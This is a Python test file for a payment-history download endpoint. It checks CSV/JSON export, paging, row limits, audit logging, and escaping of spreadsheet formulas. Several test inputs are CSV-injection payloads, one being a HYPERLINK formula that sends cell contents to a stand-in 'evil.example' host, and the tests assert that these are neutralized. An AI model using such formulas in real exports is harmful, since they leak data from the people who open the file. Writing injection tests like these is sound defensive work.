"""Downloads: all pages in one file, safe to be opened in a spreadsheet."""

import csv
import io
import json
import re
from math import inf
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.core.spreadsheets import cell, csv_lines
from service.core.visible import visible
from service.payments.history.operations import downloads
from tests.payments.history.rows import pay, refund
from tests.sessions.asking import problem, token_of
from tests.support.api import ADMIN, SECRET
from tests.support.shop import Shop

HISTORY = "/api/payment/payment-history"


async def _file(shop: Shop, form: str, key: str = SECRET, **params: Any) -> str:
    params["format"] = form
    answer = await shop.api.call("GET", HISTORY, key, params=params)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"] == f'attachment; filename="payments.{form}"'
    assert answer.headers["cache-control"] == "no-store"
    wanted = {"csv": "text/csv; charset=utf-8", "json": "application/json"}[form]
    assert answer.headers["content-type"] == wanted
    return answer.text


async def test_a_file_has_all_pages(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(downloads, "_PAGE", 2)
    for number in range(5):
        await pay(f"pi_{number}", number, userId="bob" if number == 3 else "ada")
    expected = [f"pi_{number}" for number in (4, 3, 2, 1, 0)]
    rows = list(csv.DictReader(io.StringIO(await _file(shop, "csv"), newline="")))
    assert [row["providerPaymentId"] for row in rows] == expected
    listed = (await shop.api.call("GET", HISTORY)).json()["payments"]
    assert json.loads(await _file(shop, "json"))["payments"] == listed
    of_bob = csv.DictReader(io.StringIO(await _file(shop, "csv", userId="bob")))
    assert [row["providerPaymentId"] for row in of_bob] == ["pi_3"]
    own = json.loads(await _file(shop, "json", token_of("ada", shop.clock)))["payments"]
    assert [one["providerPaymentId"] for one in own] == ["pi_4", "pi_2", "pi_1", "pi_0"]
    assert "fee" not in own[0]


async def test_a_file_of_nothing_is_a_file(shop: Shop) -> None:
    assert await _file(shop, "json") == '{"payments":[]}\n'
    text = await _file(shop, "csv", token_of("eve", shop.clock))
    assert text.endswith("\r\n")
    assert len(text.splitlines()) == 1
    assert "fee" not in text.split(",")


async def test_what_a_browser_wrote_is_no_formula(shop: Shop) -> None:
    name = '=HYPERLINK("https://evil.example?"&A1,"pay")'
    paid = await pay("pi_1", planName=name, failureMessage='say "no",\r\n@SUM(1)', userId="+1")
    await refund(paid, "refund-0001")
    [row] = csv.DictReader(io.StringIO(await _file(shop, "csv"), newline=""))
    assert (row["planName"], row["userId"]) == ("'" + name, "'+1")
    assert row["failureMessage"] == 'say "no",\\u000d\n\'@SUM(1)'
    assert (row["amount"], row["refunds"], row["attempts"]) == ("1000", "1", "1")


@given(st.text(max_size=20), st.sampled_from(["", " ", "  "]))
def test_no_text_begins_a_formula_and_none_is_lost(text: str, before: str) -> None:
    shown = str(cell(before + text))
    assert not shown.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert shown.replace("'", "") == visible(before + text).replace("'", "")


# Excel opens a file so where a comma is the decimal point: it sees no quotes within a line.
_ELSEWHERE = re.compile(r"[;\t\n]")
_ODD = st.text(st.sampled_from("=+-@;\t\n\r\"' ,x1"), max_size=12)


def _begins_formula(line: str) -> bool:
    return any(
        part.lstrip(' "').startswith(("=", "+", "-", "@")) for part in _ELSEWHERE.split(line)
    )


@given(_ODD)
def test_no_formula_begins_behind_a_semicolon_either(text: str) -> None:
    written = csv_lines([["id", text, "end"]]).decode().replace("\r\n", "")
    assert not _begins_formula(written), written


def test_control_a_semicolon_begins_a_cell_elsewhere() -> None:
    assert _begins_formula('id,x;=HYPERLINK("https://evil.example"),end')
    assert cell("x; =1+1") == "x;' =1+1"
    assert (cell("a;b"), cell("2026-11-22T10:00:00+00:00")) == ("a;b", "2026-11-22T10:00:00+00:00")


_CELLS = st.one_of(_ODD, st.none(), st.integers(), st.booleans(), st.text(max_size=5), st.floats())


@given(st.lists(st.lists(_CELLS, min_size=1, max_size=3), max_size=60))
def test_rows_that_are_looked_into_together_are_written_as_cell_by_cell(
    rows: list[list[object]],
) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([[cell(one) for one in row] for row in rows])
    assert csv_lines(rows) == out.getvalue().encode()


@pytest.mark.parametrize(
    "odd", ["=1", "a;=1", 'a"=1', "a\n=1", "\t", "\x00", "\uff1d1", "\u202e", True, "a\rb", "-"]
)
def test_one_odd_value_among_many_rows_is_found(odd: object) -> None:
    """Each in the first cell, in the middle and in the last one."""
    for place in range(3):
        rows: list[list[object]] = [["a", "b - c", 3] for _ in range(50)]
        rows[30][place] = odd
        written = list(csv.reader(io.StringIO(csv_lines(rows).decode(), newline="")))
        assert written[30][place] == str(cell(odd))
        assert written[29] == ["a", "b - c", "3"]


def test_what_can_not_be_seen_is_escaped_as_on_pages() -> None:
    assert cell("pay\u202eecivni\x00") == "pay\\u202eecivni\\u0000"


def test_a_number_stays_a_number() -> None:
    assert (cell(-5), cell(0), cell(None), cell(-28.07)) == (-5, 0, "", -28.07)
    assert csv_lines([["change", -28.07]]) == b"change,-28.07\r\n"
    # Control: the text is guarded, and so is what is a float and no number.
    assert (cell("-5"), cell("-28.07"), cell(-inf)) == ("'-5", "'-28.07", "'-inf")


@pytest.mark.parametrize("form", ["csv", "json"])
async def test_more_than_a_file_holds_is_refused_before_it_is_begun(
    shop: Shop, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    for number in range(3):
        await pay(f"pi_{number}", number)
    monkeypatch.setattr(downloads, "MOST_ROWS", 3)
    assert "pi_2" in await _file(shop, form)
    monkeypatch.setattr(downloads, "MOST_ROWS", 2)
    answer = await shop.api.call("GET", HISTORY, params={"format": form})
    told = problem(answer, 400, "too_much")
    assert "read pages by cursor" in told["detail"]


async def test_a_file_that_a_key_takes_is_on_the_record(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    await pay("pi_1")
    await pay("pi_2", userId="bob")
    await _file(shop, "csv", ADMIN, userId="bob")
    await _file(shop, "json")
    rows = await shop.database["audit_log"].find({"action": "payments.downloaded"}).to_list()
    assert [(row["actor"], row["detail"]) for row in rows] == [
        ("admin:ops", {"format": "csv", "userId": "bob", "payments": 1}),
        ("secret:server", {"format": "json", "userId": None, "payments": 2}),
    ]
    assert all(row["client"] for row in rows)
    # Control: neither what users take of their own, nor a page, nor what is refused.
    await _file(shop, "csv", token_of("ada", shop.clock))
    await shop.api.call("GET", HISTORY)
    monkeypatch.setattr(downloads, "MOST_ROWS", 0)
    problem(await shop.api.call("GET", HISTORY, params={"format": "csv"}), 400, "too_much")
    assert await shop.database["audit_log"].count_documents({}) == 2


_VALUES = st.none() | st.booleans() | st.integers() | st.text(max_size=8) | _ODD


@given(st.lists(st.lists(_VALUES, min_size=2, max_size=4), max_size=4))
def test_a_table_that_is_taken_as_a_whole_is_the_one_of_its_cells(rows: list[list[Any]]) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([[cell(one) for one in row] for row in rows])
    assert csv_lines(rows) == out.getvalue().encode()
